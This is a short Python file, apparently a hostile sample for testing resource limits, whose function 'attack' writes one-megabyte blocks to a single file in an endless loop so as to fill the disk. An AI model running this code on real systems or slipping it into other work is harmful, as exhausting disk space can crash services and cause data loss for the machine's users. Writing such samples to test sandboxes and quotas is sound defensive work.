"""Fills the disk with one file."""


def attack():
    with open("giant", "wb") as file:
        while True:
            file.write(b"x" * 10**6)
